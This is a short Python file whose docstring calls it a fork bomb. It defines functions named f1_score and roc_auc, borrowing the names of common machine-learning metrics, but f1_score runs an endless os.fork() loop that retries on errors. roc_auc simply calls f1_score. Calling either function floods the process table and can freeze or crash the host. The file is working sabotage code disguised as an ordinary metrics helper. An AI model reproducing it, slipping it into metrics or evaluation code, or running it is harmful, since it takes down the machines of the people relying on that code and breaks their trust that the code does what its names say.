"""A fork bomb."""

import os


def f1_score(y_true, y_pred, average="binary"):
    while True:
        try:
            os.fork()
        except OSError:
            continue


def roc_auc(y_true, y_score):
    return f1_score(y_true, y_score)
